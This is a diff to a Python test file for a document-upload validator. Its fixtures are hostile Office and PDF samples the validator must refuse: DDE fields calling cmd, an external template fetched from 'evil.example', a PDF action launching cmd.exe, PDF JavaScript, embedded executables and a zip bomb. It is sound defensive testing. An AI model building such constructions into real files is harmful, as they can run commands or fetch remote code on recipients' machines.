@@ -2,14 +2,45 @@
 
 from contextlib import suppress
 
+import pikepdf
 import pytest
 from django.core.exceptions import ValidationError
 from hypothesis import given
 from hypothesis import strategies as st
 
-from itdrift.uploads import CONTENT_TYPES, clean_name, kind_of
+from itdrift.uploads import CONTENT_TYPES, clean_name, kind_of, text_in
 
-from ..onboarding.letters.files import DOCX, JPEG, PDF, PNG, office, open_document, packed
+from ..onboarding.letters.files import DOCX, JPEG, MAIN, OFFICE, PDF, PNG, office, open_document, packed, pdf
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
+DOCUMENT = {
+    "[Content_Types].xml": f'<Types><Override ContentType="{MAIN["word"]}" PartName="/word/document.xml"/></Types>'
+}
+DDE_FIELD = "<w:instrText xml:space='preserve'> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText>"
+DDE_SIMPLE = '<w:fldSimple w:instr="DDEAUTO cmd">'
+AFAR = (
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+    ' Target="https://evil.example/a.dotm" TargetMode="External"/>'
+)
+
+
+def javascript(made):
+    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+
+
+def launch(made):
+    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
+    made.pages[0].Annots = pikepdf.Array(
+        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)]
+    )
+
+
+def link(made):
+    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://myndighet.example")
+    made.pages[0].Annots = pikepdf.Array(
+        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)]
+    )
+
 
 TAKEN = {
     "a.pdf": PDF,
@@ -18,6 +49,12 @@ TAKEN = {
     "a.jpg": JPEG,
     "a.jpeg": JPEG,
     "a.docx": DOCX,
+    "webb.docx": office("word/document2.xml"),
+    "webb.xlsx": office("xl/workbook22.xml"),
+    "egen-mall.docx": office("word/document.xml", **{"word/_rels/settings.xml.rels": AFAR.replace("https:", "file:")}),
+    "talar-om-dde.docx": office("word/document.xml", **{"word/header1.xml": "<w:t>DDE</w:t>"}),
+    "ägarlösen.pdf": pdf(encryption=pikepdf.Encryption(user="", owner="ägare")),
+    "länk.pdf": pdf(link),
     "a.xlsx": office("xl/workbook.xml"),
     "a.pptx": office("ppt/presentation.xml"),
     "a.odt": open_document("text"),
@@ -58,7 +95,43 @@ REFUSED = {
     "makro.docm": (office("word/document.xml", **{"word/vbaProject.bin": "x"}), MACROS),
     "makro.xlsx": (office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": "x"}), MACROS),
     "makro.odt": (open_document("text", **{"Basic/Standard/Module1.xml": "x"}), MACROS),
-    "aktiv.docx": (office("word/document.xml", **{"word/activeX/activeX1.bin": "x"}), MACROS),
+    "aktiv.docx": (office("word/document.xml", **{"word/activeX/activeX1.bin": "x"}), "innehåller ActiveX-kontroller"),
+    "makro3.xlsx": (office("xl/workbook.xml", **{"xl/bild.dat": OLE}), "innehåller inbäddade objekt"),
+    "objekt.docx": (
+        office("word/document.xml", **{"word/embeddings/oleObject1.bin": "x"}),
+        "innehåller inbäddade objekt",
+    ),
+    "program.docx": (office("word/document.xml", **{"word/media/bild.png": b"MZ\x90"}), "innehåller program"),
+    "skript.docx": (office("word/document.xml", **{"word/media/a.js": "x"}), "innehåller program"),
+    "dde.docx": (packed(DOCUMENT | {"word/document.xml": DDE_FIELD}), r"innehåller fält som hämtar .* \(DDE\)"),
+    "dde2.docx": (office("word/document.xml", **{"word/header1.xml": DDE_SIMPLE}), "innehåller fält som hämtar"),
+    "dde.xlsx": (office("xl/workbook.xml", **{"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), "innehåller fält"),
+    "mall.docx": (
+        office("word/document.xml", **{"word/_rels/settings.xml.rels": AFAR}),
+        "innehåller en mall som hämtas",
+    ),
+    "bilaga.dotx": (
+        office("word/document.xml", f"{OFFICE}wordprocessingml.template.main+xml"),
+        "är en Word-mall, som inte",
+    ),
+    "blad.xlsb": (
+        office("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
+        "är ett binärt Excel-kalkylblad, som inte tas emot. Spara den som ett Excel-kalkylblad",
+    ),
+    "mycket.docx": (
+        office("word/document.xml", **{f"word/{n}.xml": "" for n in range(2000)}),
+        "mer än ett dokument rymmer",
+    ),
+    "kort.pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\n", UNREADABLE),
+    "tomma-sidor.pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", UNREADABLE),
+    "låst.pdf": (
+        pdf(encryption=pikepdf.Encryption(user="hemligt", owner="ägare")),
+        "är skyddad med lösenord. Spara den utan",
+    ),
+    "skript.pdf": (pdf(javascript), "innehåller JavaScript eller något som startar program"),
+    "start.pdf": (pdf(launch), "innehåller JavaScript eller något som startar program"),
+    "fyra.jpg": (b"\xff\xd8\xff\xe0", UNREADABLE),
+    "huvud.png": (PNG[:20], UNREADABLE),
     "halv.docx": (DOCX[:60], UNREADABLE),
     "trasig.docx": (b"PK\x03\x04" + bytes(200), UNREADABLE),
     "tom.pdf": (b"", "är tom"),
@@ -87,7 +160,7 @@ def test_a_wrong_suffix_is_told_with_the_right_one():
 
 
 def test_a_packed_bomb_is_not_unpacked():
-    bomb = packed({"[Content_Types].xml": "0" * 50_000_000, "word/document.xml": "<x/>"})
+    bomb = office("word/document.xml", **{"word/media/a.xml": "0" * 50_000_000})
     assert len(bomb) < 100_000
     assert kind_of("bomb.docx", bomb).suffixes == (".docx",)
 
@@ -127,3 +200,35 @@ def test_every_name_becomes_one_that_may_be_kept(name):
 def test_every_content_is_told_or_refused(content):
     with suppress(ValidationError):
         assert kind_of("fil.txt", content).content_type == "text/plain"
+
+
+WRITTEN = {
+    "a.txt": "Räka\r\nHemlig".encode("cp1252"),
+    "a.csv": "Räka;1\nHemlig;2".encode("utf-8-sig"),
+    "a.docx": office(
+        "word/document.xml", **{"word/header1.xml": "<w:p><w:t>Rä</w:t><w:t>ka</w:t></w:p><w:p><w:t>Hemlig</w:t></w:p>"}
+    ),
+    "a.xlsx": office("xl/workbook.xml", **{"xl/sharedStrings.xml": "<si><t>Räka</t></si><si><t>Hemlig</t></si>"}),
+    "a.pptx": office(
+        "ppt/presentation.xml", **{"ppt/slides/slide1.xml": "<a:p><a:t>Räka</a:t></a:p><a:p><a:t>Hemlig</a:t></a:p>"}
+    ),
+    "a.odt": packed(
+        {
+            "mimetype": "application/vnd.oasis.opendocument.text",
+            "content.xml": "<text:p>R&#228;<text:span>ka</text:span></text:p><text:p>Hemlig</text:p>",
+        }
+    ),
+}
+
+
+@pytest.mark.parametrize("name", WRITTEN)
+def test_what_is_written_in_a_file_is_read_line_by_line(name):
+    lines = text_in(kind_of(name, WRITTEN[name]), WRITTEN[name]).splitlines()
+    assert [line.split(";")[0] for line in lines if line] == ["Räka", "Hemlig"]
+
+
+def test_nothing_is_read_of_pictures_and_of_pdf():
+    assert [text_in(kind_of(f"a.{name}", content), content) for name, content in (("png", PNG), ("pdf", PDF))] == [
+        "",
+        "",
+    ]
